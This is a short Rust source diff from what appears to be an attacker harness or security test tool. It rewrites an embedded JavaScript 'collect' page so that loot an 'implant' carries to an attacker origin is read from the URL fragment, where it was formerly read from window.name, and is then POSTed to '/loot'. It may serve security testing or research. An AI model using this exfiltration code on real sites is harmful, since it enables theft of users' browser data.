@@ -18,9 +18,9 @@ pub fn implant(mode: &str, evil: &Origin) -> String {
     IMPLANT.replace("%EVIL%", evil.as_str()).replace("%MODE%", mode)
 }
 
-/// The page where the implant carries its loot: `window.name` survives the navigation inside one tab.
+/// The page to which the implant carries its loot, in the fragment.
 const COLLECT: &str = "<!doctype html><title>collect</title><script>\
-    fetch('/loot', { method: 'POST', body: window.name }).then(() => { document.title = 'collected'; });</script>";
+    fetch('/loot', { method: 'POST', body: decodeURIComponent(location.hash.slice(1)) }).then(() => { document.title = 'collected'; });</script>";
 
 /// The attacker's state; clones share it.
 #[derive(Clone, Default)]
